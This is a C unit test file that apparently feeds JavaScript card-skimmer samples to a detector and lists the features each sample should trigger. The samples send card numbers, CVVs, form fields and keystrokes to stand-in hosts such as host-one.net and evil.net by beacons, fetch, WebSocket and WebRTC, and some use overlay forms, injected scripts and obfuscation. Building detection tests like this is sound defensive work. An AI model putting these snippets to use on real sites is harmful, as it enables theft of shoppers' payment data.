/* Harmless imitations of skimmers in JavaScript. */
#include "look.h"

static const struct look_case cases[] = {
    {"an image carries the card number", "a.js",
     "document.getElementById('card_number').addEventListener('blur', function () {\n"
     "\tvar i = new Image(); i.src = 'https://cdn.host-one.net/p.gif?d=' + btoa(this.value);\n"
     "});",
     "{\"beacon_out\":1,\"card_encoded\":1,\"card_listen\":1,\"card_to_net\":1,\"card_to_"
     "sink\":1,\"card_word\":1,\"encode\":1,\"form_listen\":1,\"form_read\":1,\"form_to_host\":"
     "1,\"hosts\":1}",
     "js"},
    {"fetch of all fields on checkout", "a.js",
     "(function(){ if (location.href.indexOf('checkout') < 0) return;\n"
     " var data = {};\n"
     " document.querySelectorAll('input').forEach(function(el){ data[el.name] = el.value });\n"
     " fetch(atob('aHR0cHM6Ly9ldmlsLmhvc3QubmV0L2M='), {method:'POST', body: "
     "JSON.stringify(data)});\n"
     "})();",
     "{\"card_to_net\":1,\"card_to_sink\":1,\"checkout_test\":1,\"decode\":1,\"form_read\":1,"
     "\"hidden_url\":1,\"hosts\":1,\"net_out\":1}",
     "js"},
    {"beacon of a form", "a.js",
     "const f = document.forms[0]\n"
     "f.onsubmit = () => { navigator.sendBeacon('//host-one.net/b', new FormData(f)) }",
     "{\"beacon_out\":1,\"card_to_net\":1,\"card_to_sink\":1,\"form_listen\":1,\"form_to_"
     "host\":1,\"hosts\":1,\"request_body\":1}",
     "js"},
    {"keystrokes over a socket", "a.js",
     "let k = ''\n"
     "const s = new WebSocket('wss://host-one.net/')\n"
     "document.onkeypress = e => { k += e.key; s.send(k) }",
     "{\"hosts\":1,\"key_listen\":1,\"keys_to_sink\":1,\"socket_out\":1}", "js"},
    {"XMLHttpRequest", "a.js",
     "var x = new XMLHttpRequest(); x.open('POST', 'https://host-one.net/c', true);\n"
     "x.send('n=' + document.querySelector('[name=cvc]').value);",
     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":1,\"form_read\":1,\"hosts\":1,\"net_"
     "out\":1}",
     "js"},
    {"jQuery", "a.js",
     "$('#payment-form').on('submit', function () { $.post('https://host-one.net/', "
     "$(this).serialize()); });",
     "{\"card_to_net\":1,\"card_to_sink\":1,\"form_listen\":1,\"form_to_host\":1,\"hosts\":1,"
     "\"net_out\":1,\"request_body\":1}",
     "js"},
    {"a function that stands below", "a.js",
     "out($('#cc-number').val());\n"
     "function out(d) { new Image().src = \"//host-one.net/?\" + d; }",
     "{\"beacon_out\":1,\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":1,\"form_read\":1,"
     "\"form_to_host\":1,\"hosts\":1}",
     "js"},
    {"through storage", "a.js",
     "localStorage.setItem('k', document.getElementById('cvv').value); document.cookie = 'c=' "
     "+ card_number;",
     "{\"card_to_sink\":2,\"card_to_storage\":2,\"card_word\":2,\"form_read\":1,\"storage_"
     "write\":2}",
     "js"},
    {"template text", "a.js",
     "fetch(`https://host-one.net/"
     "?n=${document.querySelector(\"#card-number\").value}&t=${Date.now()}`);",
     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":1,\"form_read\":1,\"form_to_host\":1,"
     "\"hosts\":1,\"net_out\":1}",
     "js"},
    {"eval and its kin", "a.js",
     "eval(x); new Function(\"return 1\")(); setTimeout(\"a()\", 1); eval(atob(y)); "
     "document.write(String.fromCharCode(60,115,99,114,105,112,116));",
     "{\"char_build\":2,\"decode\":1,\"decoded_run\":2,\"eval_code\":3,\"eval_old\":1,\"markup_"
     "write\":1}",
     "js"},
    {"an obfuscator's output", "a.js",
     "var "
     "_0x1a2b=[\"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x68\\x2e\\x6e\\x65\\x74\","
     "\"Y2FyZF9udW1iZXI=\"];(function(_0x3c4d,_0x5e6f){_0x3c4d[\"push\"](_0x3c4d[\"shift\"]());"
     "}(_0x1a2b,0x7b));",
     "{\"escaped_share\":67,\"hex_names\":6,\"hidden_url\":1,\"hosts\":1}", "js"},
    {"an overlay with a form", "a.js",
     "var d = document.createElement(\"iframe\"); d.style.zIndex = 99999; d.src = "
     "\"https://host-one.net/f\"; document.body.innerHTML = \"<div "
     "style=\\\"position:fixed;z-index:9999\\\"><form "
     "action=\\\"https://host-one.net/\\\"><input name=card_no></form></div>\";",
     "{\"card_input\":1,\"card_word\":2,\"form_external\":1,\"frame_external\":1,\"frame_"
     "insert\":1,\"hosts\":1,\"markup_write\":1,\"overlay\":2}",
     "js"},
    {"a script from elsewhere", "a.js",
     "var "
     "s=document.createElement(\"script\");s.src=\"//host-one.net/"
     "s.js\";document.head.appendChild(s);",
     "{\"hosts\":1,\"script_external\":1,\"script_insert\":1}", "js"},
    {"a form sent elsewhere", "a.js",
     "document.getElementById(\"pay\").action = \"https://host-one.net/pay\"; location.href = "
     "\"https://host-two.net/\";",
     "{\"form_action\":1,\"form_external\":1,\"hosts\":2,\"page_move\":1}", "js"},
    {"hides from tools", "a.js",
     "setInterval(function(){debugger},50); if (window.outerWidth - window.innerWidth > 160) "
     "document.body.innerHTML = \"devtools\"; if (navigator.webdriver || "
     "/bot/.test(navigator.userAgent)) {}",
     "{\"debug_test\":4,\"markup_write\":1,\"visitor_test\":3}", "js"},
    {"backwards", "a.js", "var u = \"moc.tsoh-eno//:sptth\".split(\"\").reverse().join(\"\");",
     "{\"hidden_url\":1,\"hidden_word\":1,\"hosts\":1}", "js"},
    {"pieces of an address", "a.js",
     "var u = 'ht' + 'tp' + 's:' + '//' + 'ev' + 'il.n' + 'et';",
     "{\"hidden_url\":1,\"hosts\":1,\"split_strings\":1}", "js"},
    {"peer connection", "a.js",
     "var p = new RTCPeerConnection(); var c = p.createDataChannel(\"x\"); "
     "c.send(document.getElementById(\"cvv2\").value);",
     "{\"card_to_net\":1,\"card_to_sink\":1,\"card_word\":1,\"form_read\":1,\"socket_out\":1}",
     "js"},
    {"every card field of the page", "a.js",
     "document.querySelectorAll('[name=card_number]').forEach(function (f) { "
     "f.addEventListener('change', function (e) { localStorage.setItem('k', btoa(f.value)); "
     "fetch('/x', {body: e.target.value}); }); });",
     "{\"card_encoded\":1,\"card_listen\":1,\"card_to_net\":1,\"card_to_sink\":2,\"card_to_"
     "storage\":1,\"card_word\":1,\"encode\":1,\"form_listen\":1,\"form_read\":2,\"net_out\":1,"
     "\"storage_write\":1}",
     "js"},
    {"a card object", "a.js",
     "var card = read(); navigator.sendBeacon(\"/b\", JSON.stringify({n: card.number, c: "
     "card.code}));",
     "{\"beacon_out\":1,\"card_to_net\":1,\"card_to_sink\":1}", "js"},
};

static void test_js_harm(void **state)
{
	(void)state;
	LOOK_CHECK(cases);
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(test_js_harm)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
